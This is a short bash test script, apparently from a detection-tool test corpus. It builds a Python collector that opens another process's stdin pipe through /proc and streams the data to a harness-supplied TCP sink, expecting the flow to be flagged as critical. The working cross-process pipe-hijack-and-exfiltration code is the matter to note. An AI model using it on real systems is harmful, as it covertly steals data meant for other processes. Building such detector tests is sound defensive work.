#!/bin/bash
# A-reopened-pipe: a helper that only says its number; a collector that ran before opens the helper's pipe in /proc and ships it.
# flow: kernel, pipe; open(/proc/HELPER/fd/0) by another process, which reads and sends; the helper never reads a byte.
# tools: python3
# expect: sent counted port critical
. "$CORPUS/lib.sh"
cat >collector.py <<'END'
import os, socket, sys
os.mkfifo("calls")
open("ready", "w").close()
with open("calls") as calls:
    helper = int(calls.readline())
pipe = os.open(f"/proc/{helper}/fd/0", os.O_RDONLY)
print(os.readlink(f"/proc/self/fd/{pipe}"), file=open("pipe", "w"), flush=True)
sink = socket.create_connection((sys.argv[1], int(sys.argv[2])))
# The helper's own end keeps the pipe open, not its data.
os.kill(helper, 10)
while part := os.read(pipe, 1 << 17):
    sink.sendall(part)
sink.close()
open("done", "w").close()
END
sink tcp
bg python3 collector.py "$SINK" "$PORT"
until_true [ -e ready ]
cat >helper <<END
#!/bin/sh
trap 'exit 0' USR1
echo $\$ >$W/calls
while :; do sleep .05; done
END
crash_to_helper
until_true [ -e done ]
note "dump $(cat pipe)"
sunk 100000
